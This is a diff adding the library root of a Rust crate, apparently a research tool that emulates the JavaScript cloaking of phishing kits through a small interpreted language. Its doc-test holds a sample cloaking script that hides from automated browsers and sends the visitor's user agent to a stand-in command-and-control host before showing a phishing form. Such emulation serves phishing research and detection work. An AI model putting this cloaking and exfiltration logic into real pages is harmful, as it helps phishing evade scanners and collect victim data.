@@ -1,0 +1,53 @@
+#![warn(missing_docs)]
+
+//! MJS — the mini scripting language phishing kits embed in their pages.
+//!
+//! The paper's client-side cloaking is all JavaScript: user-agent /
+//! timezone / language gates, console-method hijacking, `debugger`-timer
+//! probes, AJAX exfiltration of visitor data, tokenized-URL victim checks,
+//! base64-decoded payload injection (§V-C2). Reproducing those decision
+//! points does not require V8 — it requires a language with the same
+//! *observable host surface*. MJS is that language: a C-like expression
+//! grammar (Pratt parser) with `var`/`if`/`while`, strings, numbers,
+//! booleans, and member/method access routed to a [`Host`] trait the
+//! browser implements (`navigator.userAgent`, `console.log(...)`,
+//! `fetch(...)`, `Intl.DateTimeFormat().resolvedOptions().timeZone`, …).
+//!
+//! The substitution is documented in `DESIGN.md` §4: cloaking verdicts are
+//! functions of the environment values a script reads and the calls it
+//! makes, both of which MJS reproduces faithfully.
+//!
+//! # Example
+//!
+//! ```
+//! use cb_script::{run, Script, hosts::RecordingHost, Value};
+//!
+//! let src = r#"
+//!     var ua = navigator.userAgent;
+//!     if (navigator.webdriver == true) {
+//!         document.write("benign content");
+//!     } else {
+//!         fetch("https://c2.example/log", ua);
+//!         document.write("phish form");
+//!     }
+//! "#;
+//! let script = Script::parse(src).unwrap();
+//! let mut host = RecordingHost::new();
+//! host.set_env("navigator.userAgent", Value::from("Mozilla/5.0 Chrome"));
+//! host.set_env("navigator.webdriver", Value::Bool(false));
+//! run(&script, &mut host).unwrap();
+//! assert_eq!(host.writes(), ["phish form"]);
+//! assert_eq!(host.fetches().len(), 1);
+//! ```
+
+pub mod ast;
+pub mod interp;
+pub mod lexer;
+pub mod parser;
+pub mod value;
+
+pub mod hosts;
+
+pub use ast::Script;
+pub use interp::{run, Host, ScriptError};
+pub use value::Value;
